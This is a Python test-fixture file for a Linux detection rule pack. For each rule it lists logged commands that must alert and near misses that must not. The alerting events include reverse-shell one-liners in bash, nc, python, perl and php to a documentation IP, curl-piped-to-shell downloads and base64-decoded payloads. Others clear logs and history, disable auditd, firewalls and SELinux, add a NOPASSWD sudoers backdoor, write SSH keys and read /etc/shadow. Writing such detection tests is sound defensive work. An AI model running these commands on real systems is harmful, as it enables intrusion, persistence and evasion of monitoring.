"""The events of each rule's test logs: (must alert, near misses), by rule file stem.

Read by make_logs.py (which writes the .log files) and by tests/test_rule_pack.py
(which knows from here which events must alert). `seed_unix_socket` is for the
Elastic seed rule in ../shared/seed/, not for a rule of ours.
"""

from __future__ import annotations

from make_logs import Exec, bash, script, sh

WWW = 33  # www-data on Debian
NOBODY = 4294967295  # no login uid: a daemon

_apache = Exec(["/usr/sbin/apache2", "-k", "start"], pid=900, ppid=1, auid=NOBODY, cwd="/",
               alert=False)

EVENTS: dict[str, tuple[list[Exec], list[Exec]]] = {
    "seed_unix_socket": (
        [Exec(["nc", "-U", "/var/run/docker.sock"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["socat", "-", "UNIX-CLIENT:/run/containerd/containerd.sock"])],
        [Exec(["nc", "-U", "/var/run/libvirt/libvirt-sock"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["nc", "-U", "/home/alice/app.sock"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["nc", "10.0.0.5", "80"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["socat", "TCP-LISTEN:8080", "UNIX-CLIENT:/run/app.sock"])],
    ),
    "execution_unix_socket_client": (
        [Exec(["nc", "-U", "/var/run/docker.sock"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["socat", "-", "UNIX-CONNECT:/run/containerd/containerd.sock"]),
         Exec(["ncat", "-U", "/tmp/.X11-unix/X0"], uid=WWW, auid=NOBODY, cwd="/var/www/html")],
        [Exec(["nc", "-U", "/run/libvirt/libvirt-sock"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["nc", "-zv", "10.0.0.5", "22"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["socat", "TCP-LISTEN:2375,fork", "UNIX-CONNECT:/var/run/docker.sock"])],
    ),
    "execution_shell_dev_tcp_redirect": (
        [bash("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", uid=WWW, auid=NOBODY, cwd="/var/www/html"),
         sh("exec 5<>/dev/udp/198.51.100.2/53; cat <&5 | sh >&5 2>&5")],
        [bash("cat /proc/net/tcp | wc -l"),
         sh("ls -l /dev/tty*")],
    ),
    "execution_netcat_program_exec": (
        [Exec(["nc", "203.0.113.7", "4444", "-e", "/bin/sh"], exe="/usr/bin/nc.traditional", path="/usr/bin/nc"),
         Exec(["ncat", "--sh-exec", "bash -i", "-l", "9001"])],
        [Exec(["nc", "-zv", "10.0.0.5", "22"], exe="/usr/bin/nc.openbsd", path="/usr/bin/nc"),
         Exec(["nc", "-l", "-p", "9001"], exe="/usr/bin/nc.traditional", path="/usr/bin/nc")],
    ),
    "execution_interpreter_socket_one_liner": (
        [Exec(["python3", "-c",
               'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
               's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
               'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'],
              exe="/usr/bin/python3.11", uid=WWW, auid=NOBODY, cwd="/var/www/html"),
         Exec(["perl", "-e",
               'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
               'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
               'open(STDERR,">&S");exec("/bin/sh -i");};']),
         Exec(["php", "-r", '$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
              exe="/usr/bin/php8.2")],
        [Exec(["python3", "-c", "import socket; print(socket.gethostname())"], exe="/usr/bin/python3.11"),
         Exec(["python3", "-m", "http.server", "8000"], exe="/usr/bin/python3.11"),
         Exec(["perl", "-e", 'use Socket; print inet_ntoa(inet_aton("localhost")), "\\n";'])],
    ),
    "execution_download_piped_to_shell": (
        [sh("curl -fsSL http://203.0.113.7/x.sh | sh", uid=WWW, auid=NOBODY, cwd="/tmp"),
         bash("wget -qO- https://get.example.org/install | sudo bash -s -- --yes"),
         sh("curl -s http://203.0.113.7/p.py|python3")],
        [sh("curl -fsSL -o /tmp/install.sh https://get.example.org/install.sh"),
         sh("curl -s https://example.org/SHA256SUMS | sha256sum -c"),
         bash("wget -q https://example.org/a.tgz && tar xzf a.tgz")],
    ),
    "defense_evasion_base64_decoded_to_shell": (
        [sh("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh"),
         bash("base64 --decode /tmp/.p | bash")],
        [sh("echo aGVsbG8= | base64 -d"),
         sh("base64 -d /tmp/blob > /tmp/blob.bin")],
    ),
    "execution_downloaded_file_made_executable_and_run": (
        # (set-up steps alert=False: the alert is the last event of the sequence)
        [Exec(["curl", "-fsSLo", "/tmp/.x/kw", "http://203.0.113.7/kw"], ppid=2600, uid=WWW,
              auid=NOBODY, cwd="/tmp", alert=False),
         Exec(["chmod", "+x", "/tmp/.x/kw"], ppid=2600, uid=WWW, auid=NOBODY, cwd="/tmp",
              alert=False),
         Exec(["/tmp/.x/kw", "-B"], ppid=2600, uid=WWW, auid=NOBODY, cwd="/tmp"),
         Exec(["wget", "-q", "http://203.0.113.7/m", "-O", "/dev/shm/m"], ppid=2700, alert=False),
         Exec(["ls", "-l", "/dev/shm"], ppid=2700, alert=False),
         Exec(["chmod", "755", "/dev/shm/m"], ppid=2700, alert=False),
         Exec(["./m"], exe="/dev/shm/m", path="./m", cwd="/dev/shm", ppid=2700)],
        # steps from different shells; chmod before the download; no chmod; run
        # from a home directory; execute permission removed
        [Exec(["curl", "-o", "/tmp/a", "http://203.0.113.7/a"], ppid=3000),
         Exec(["chmod", "+x", "/tmp/a"], ppid=3001),
         Exec(["/tmp/a"], ppid=3002),
         Exec(["chmod", "+x", "/tmp/b"], ppid=3100),
         Exec(["curl", "-o", "/tmp/b", "http://203.0.113.7/b"], ppid=3100),
         Exec(["/tmp/b"], ppid=3100),
         Exec(["wget", "http://203.0.113.7/c", "-O", "/tmp/c"], ppid=3200),
         Exec(["/tmp/c"], ppid=3200),
         Exec(["curl", "-o", "/home/alice/tool", "https://example.org/tool"], ppid=3300,
              uid=1000, cwd="/home/alice"),
         Exec(["chmod", "+x", "/home/alice/tool"], ppid=3300, uid=1000, cwd="/home/alice"),
         Exec(["/home/alice/tool"], ppid=3300, uid=1000, cwd="/home/alice"),
         Exec(["curl", "-o", "/tmp/d", "http://203.0.113.7/d"], ppid=3400),
         Exec(["chmod", "-x", "/tmp/d"], ppid=3400),
         Exec(["/tmp/d"], ppid=3400)],
    ),
    "execution_from_world_writable_directory": (
        [Exec(["/tmp/.x/kworker", "-c", "pool.example:3333"], cwd="/tmp/.x", uid=WWW, auid=NOBODY),
         Exec(["./a.out"], exe="/dev/shm/a.out", path="./a.out", cwd="/dev/shm")],
        [Exec(["ls", "-la"], cwd="/tmp"),
         Exec(["/usr/local/bin/tmpreaper", "7d", "/tmp"])],
    ),
    "persistence_kernel_module_load": (
        [Exec(["insmod", "/tmp/rk.ko"], exe="/usr/bin/kmod", path="/usr/sbin/insmod", comm="insmod"),
         Exec(["modprobe", "dummy"], exe="/usr/bin/kmod", path="/usr/sbin/modprobe", comm="modprobe")],
        [Exec(["modprobe", "-r", "dummy"], exe="/usr/bin/kmod", path="/usr/sbin/modprobe", comm="modprobe"),
         Exec(["lsmod"], exe="/usr/bin/kmod", path="/usr/sbin/lsmod", comm="lsmod"),
         Exec(["modinfo", "ext4"], exe="/usr/bin/kmod", path="/usr/sbin/modinfo", comm="modinfo")],
    ),
    "defense_evasion_audit_rules_cleared": (
        [Exec(["auditctl", "-D"], exe="/usr/sbin/auditctl"),
         Exec(["auditctl", "-e", "0"], exe="/usr/sbin/auditctl")],
        [Exec(["auditctl", "-l"], exe="/usr/sbin/auditctl"),
         Exec(["auditctl", "-e", "1"], exe="/usr/sbin/auditctl")],
    ),
    "defense_evasion_auditd_stopped": (
        [Exec(["systemctl", "stop", "auditd"]),
         script("/bin/sh", "/usr/sbin/service", ["auditd", "stop"], "/usr/bin/dash"),
         Exec(["pkill", "auditd"])],
        [Exec(["systemctl", "status", "auditd"]),
         script("/bin/sh", "/usr/sbin/service", ["auditd", "status"], "/usr/bin/dash"),
         Exec(["systemctl", "stop", "apache2"])],
    ),
    "defense_evasion_system_log_cleared": (
        [Exec(["shred", "-u", "-z", "/var/log/auth.log"]),
         Exec(["truncate", "-s", "0", "/var/log/audit/audit.log"]),
         Exec(["rm", "-f", "/var/log/wtmp"]),
         sh("cat /dev/null > /var/log/syslog")],
        [Exec(["truncate", "-s", "0", "/tmp/scratch.log"]),
         Exec(["rm", "-f", "/var/log/app/old.log.3.gz"]),
         Exec(["tail", "-n", "50", "/var/log/auth.log"]),
         sh("echo started >> /var/log/myapp.log")],
    ),
    "defense_evasion_shell_history_cleared": (
        [Exec(["rm", "-f", "/root/.bash_history"]),
         Exec(["ln", "-sf", "/dev/null", ".bash_history"], cwd="/home/alice", uid=1000),
         bash("history -c && history -w")],
        [Exec(["wc", "-l", "/root/.bash_history"]),
         Exec(["rm", "-f", "/root/.bashrc.orig"]),
         bash("history | tail -n 5")],
    ),
    "persistence_local_account_change": (
        [Exec(["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysupdate"], exe="/usr/sbin/useradd"),
         Exec(["usermod", "-aG", "sudo", "www-data"], exe="/usr/sbin/usermod"),
         script("/usr/bin/perl", "/usr/sbin/adduser", ["--disabled-password", "--gecos", "", "backup2"],
                "/usr/bin/perl")],
        [Exec(["usermod", "--help"], exe="/usr/sbin/usermod"),
         Exec(["getent", "passwd", "sysupdate"]),
         Exec(["id", "-u", "www-data"])],
    ),
    "persistence_password_changed": (
        [Exec(["passwd", "root"]),
         Exec(["chpasswd"], exe="/usr/sbin/chpasswd"),
         Exec(["chage", "-M", "99999", "sysupdate"])],
        [Exec(["passwd", "-S", "alice"]),
         Exec(["chage", "-l", "alice"])],
    ),
    "privilege_escalation_sudoers_modified": (
        [Exec(["visudo"], exe="/usr/sbin/visudo"),
         Exec(["vim", "/etc/sudoers.d/90-cloud"], exe="/usr/bin/vim.basic", path="/usr/bin/vim", comm="vim"),
         sh("echo 'sysupdate ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")],
        [Exec(["visudo", "-c"], exe="/usr/sbin/visudo"),
         Exec(["cat", "/etc/sudoers"]),
         Exec(["sudo", "-l"], uid=0, auid=1000)],
    ),
    "persistence_crontab_changed": (
        [Exec(["crontab", "-e"]),
         Exec(["crontab", "/tmp/.c"], uid=WWW, auid=NOBODY, cwd="/tmp"),
         Exec(["crontab", "-r", "-u", "alice"])],
        [Exec(["crontab", "-l"]),
         Exec(["crontab", "-u", "alice", "-l"])],
    ),
    "persistence_at_job_scheduled": (
        [Exec(["at", "now", "+", "5", "minutes", "-f", "/tmp/.r.sh"]),
         Exec(["batch"], exe="/usr/bin/at", path="/usr/bin/batch", comm="batch")],
        [Exec(["at", "-l"]),
         Exec(["atq"])],
    ),
    "persistence_systemd_timer_enabled": (
        [Exec(["systemctl", "enable", "--now", "sys-update.timer"]),
         Exec(["systemctl", "--user", "enable", "backup.timer"], uid=1000, cwd="/home/alice")],
        [Exec(["systemctl", "list-timers", "--all"]),
         Exec(["systemctl", "status", "apt-daily.timer"]),
         Exec(["systemctl", "enable", "nginx.service"])],
    ),
    "persistence_ssh_authorized_keys_write": (
        [sh("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx1 op@host' >> /root/.ssh/authorized_keys"),
         Exec(["tee", "-a", "/home/alice/.ssh/authorized_keys"]),
         Exec(["cp", "/tmp/k.pub", "/root/.ssh/authorized_keys"])],
        [Exec(["cat", "/root/.ssh/authorized_keys"]),
         sh("cat /root/.ssh/authorized_keys > /tmp/keys.bak"),
         Exec(["ssh-copy-id", "alice@web-02"])],
    ),
    "persistence_ssh_keygen_unusual_location": (
        [Exec(["ssh-keygen", "-t", "ed25519", "-N", "", "-f", "/tmp/.k"], cwd="/var/www/html",
              uid=WWW, auid=NOBODY),
         Exec(["ssh-keygen", "-q", "-t", "rsa", "-f", "./id"], cwd="/dev/shm")],
        [Exec(["ssh-keygen", "-t", "ed25519", "-f", "/home/alice/.ssh/id_ed25519"], cwd="/home/alice",
              uid=1000),
         Exec(["ssh-keygen", "-lf", "/tmp/upload.pub"], cwd="/tmp")],
    ),
    "privilege_escalation_setuid_bit_set": (
        [Exec(["chmod", "u+s", "/tmp/.bash"]),
         Exec(["chmod", "4755", "/usr/local/bin/helper"]),
         Exec(["chmod", "06755", "/var/tmp/x"])],
        [Exec(["chmod", "755", "/usr/local/bin/helper"]),
         Exec(["chmod", "2775", "/srv/shared"]),
         Exec(["chmod", "+x", "/tmp/4755"])],
    ),
    "defense_evasion_firewall_disabled": (
        [Exec(["iptables", "-F"], exe="/usr/sbin/xtables-nft-multi", path="/usr/sbin/iptables", comm="iptables"),
         Exec(["iptables", "-P", "INPUT", "ACCEPT"], exe="/usr/sbin/xtables-nft-multi",
              path="/usr/sbin/iptables", comm="iptables"),
         script("/usr/bin/python3", "/usr/sbin/ufw", ["disable"], "/usr/bin/python3.11"),
         Exec(["nft", "flush", "ruleset"], exe="/usr/sbin/nft")],
        [Exec(["iptables", "-L", "-n"], exe="/usr/sbin/xtables-nft-multi", path="/usr/sbin/iptables",
              comm="iptables"),
         Exec(["iptables", "-P", "INPUT", "DROP"], exe="/usr/sbin/xtables-nft-multi",
              path="/usr/sbin/iptables", comm="iptables"),
         script("/usr/bin/python3", "/usr/sbin/ufw", ["status"], "/usr/bin/python3.11"),
         Exec(["systemctl", "status", "ufw"])],
    ),
    "persistence_web_server_spawned_shell": (
        [_apache,
         sh("id; uname -a", ppid=900, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads")],
        [_apache,
         sh("id; uname -a", ppid=1999, uid=1000, cwd="/home/alice"),
         Exec(["/usr/sbin/apache2ctl", "graceful"], ppid=900, auid=NOBODY)],
    ),
    "credential_access_shadow_file_read": (
        [Exec(["cat", "/etc/shadow"]),
         Exec(["base64", "-w0", "/etc/shadow"], uid=0, auid=33)],
        [Exec(["cat", "/etc/passwd"]),
         Exec(["ls", "-l", "/etc/shadow"])],
    ),
    "defense_evasion_immutable_attribute_set": (
        [Exec(["chattr", "+i", "/root/.ssh/authorized_keys"]),
         Exec(["chattr", "+ia", "/etc/cron.d/sys-update"])],
        [Exec(["chattr", "-i", "/etc/resolv.conf"]),
         Exec(["lsattr", "/etc/resolv.conf"])],
    ),
    "defense_evasion_mac_policy_disabled": (
        [Exec(["setenforce", "0"], exe="/usr/sbin/setenforce"),
         Exec(["systemctl", "stop", "apparmor"]),
         Exec(["aa-teardown"], exe="/usr/sbin/aa-teardown")],
        [Exec(["setenforce", "1"], exe="/usr/sbin/setenforce"),
         Exec(["getenforce"], exe="/usr/sbin/getenforce"),
         Exec(["systemctl", "status", "apparmor"])],
    ),
}
